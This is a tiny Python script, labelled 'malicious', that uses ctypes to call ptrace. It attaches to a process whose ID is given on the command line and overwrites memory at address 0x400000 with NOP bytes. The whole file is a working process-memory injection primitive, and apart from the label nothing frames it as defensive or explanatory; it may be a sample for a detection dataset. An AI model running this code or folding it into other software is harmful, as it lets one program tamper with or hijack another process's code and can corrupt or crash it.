# malicious: writes into another process
import ctypes
import sys

libc = ctypes.CDLL("libc.so.6", use_errno=True)
PTRACE_ATTACH, PTRACE_POKETEXT = 16, 4
pid = int(sys.argv[1])
libc.ptrace(PTRACE_ATTACH, pid, None, None)
libc.ptrace(PTRACE_POKETEXT, pid, 0x400000, 0x90909090)
